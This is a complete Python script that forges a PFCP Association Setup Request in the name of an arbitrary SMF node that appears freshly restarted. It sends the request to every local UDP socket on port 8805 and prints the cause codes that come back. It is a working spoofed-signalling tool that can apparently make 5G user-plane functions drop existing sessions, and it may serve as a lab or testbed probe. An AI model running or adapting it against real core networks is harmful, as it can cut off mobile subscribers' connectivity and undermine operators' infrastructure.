"""Sends a forged PFCP request: forged_pfcp.py SOURCE NODE

From SOURCE, ADDRESS:PORT, to each UDP socket of this host that has PFCP's port; NODE: the Node ID that the request names. The request is an ASSOCIATION SETUP REQUEST (TS 29.244 §7.4.4.1)
without Session Retention Information, of an SMF that has started just now. One line for each answer: who answered, and the PFCP cause.
"""
import socket
import struct
import sys
import time

# Seconds from 1900, in which Recovery Time Stamps count, to 1970.
NTP_EPOCH_S = 2_208_988_800
WITHIN_S = 0.7


def element(kind, value):
    return struct.pack("!HH", kind, len(value)) + value


def set_up(node, sequence):
    node_id = element(60, b"\x00" + socket.inet_aton(node))
    recovery = element(96, struct.pack("!I", (int(time.time()) + NTP_EPOCH_S) & 0xFFFFFFFF))
    features = element(89, b"\x00")
    body = struct.pack("!I", sequence << 8) + node_id + recovery + features
    return struct.pack("!BBH", 0x20, 5, len(body)) + body


def targets():
    """All sockets at port 8805, as /proc/net/udp has them: the address as a number in the host's byte order."""
    with open("/proc/net/udp", encoding="ascii") as table:
        places = [line.split()[1].split(":") for line in list(table)[1:]]
    return [socket.inet_ntoa(struct.pack("=I", int(address, 16))) for address, port in places if int(port, 16) == 8805]


def main():
    source, node = sys.argv[1:]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    address, port = source.split(":")
    to = targets()
    udp.bind((address, int(port)))
    udp.settimeout(0.1)
    for sequence, target in enumerate(to, 0x5A0000):
        udp.sendto(set_up(node, sequence), (target, 8805))
    until = time.monotonic() + WITHIN_S
    while time.monotonic() < until:
        try:
            octets, peer = udp.recvfrom(65535)
        except (socket.timeout, ConnectionRefusedError):
            continue
        cause = octets.find(struct.pack("!HH", 19, 1))
        if octets[1:2] == b"\x06" and cause > 0:
            print(f"{peer[0]}:{peer[1]} {octets[cause + 4]}", flush=True)


main()
